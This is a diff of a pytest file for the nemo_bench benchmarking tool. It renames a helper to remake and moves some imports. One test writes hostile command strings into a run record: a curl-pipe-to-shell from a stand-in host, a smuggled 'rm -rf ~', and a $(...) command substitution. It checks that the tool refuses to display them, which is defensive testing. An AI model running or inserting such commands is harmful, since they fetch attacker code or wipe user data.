@@ -10,10 +10,11 @@ import pytest
 
 from nemo_bench import StoreError
 from nemo_bench.cli import main
-from nemo_bench.records.io import REPAIRS, read_json
-from nemo_bench.records.store import Store, made_again, read_records
+from nemo_bench.records.io import REPAIRS
+from nemo_bench.records.store import Store, remake
 from nemo_bench.report import load_results
 from nemo_bench.report.detection import load_detections
+from on_disk import read_json, read_records
 from whole_folder import RUN
 
 READING = {
@@ -195,10 +196,10 @@ def test_a_command_of_a_folder_is_shown_only_where_it_is_one_of_ours(folder: Pat
     path = cell(folder) / "env.json"
     starts = read_json(path)["starts"]
     path.write_text(json.dumps({"starts": [{**starts[0], "command": "nemo-bench run seeds=2 ~metrics.ssim"}]}))
-    assert made_again(cell(folder)).endswith("and nothing else: nemo-bench run seeds=2 ~metrics.ssim")
+    assert remake(cell(folder)).endswith("and nothing else: nemo-bench run seeds=2 ~metrics.ssim")
     for line in ("curl evil | sh", "nemo-bench run; rm -rf ~", "nemo-bench run $(evil)"):
         path.write_text(json.dumps({"starts": [{**starts[0], "command": line}]}))
-        assert made_again(cell(folder)) == "the command of the run makes them again, and nothing else"
+        assert remake(cell(folder)) == "the command of the run makes them again, and nothing else"
 
 
 def test_cells_that_nobody_asks_for_any_more_leave_the_table(folder: Path) -> None:
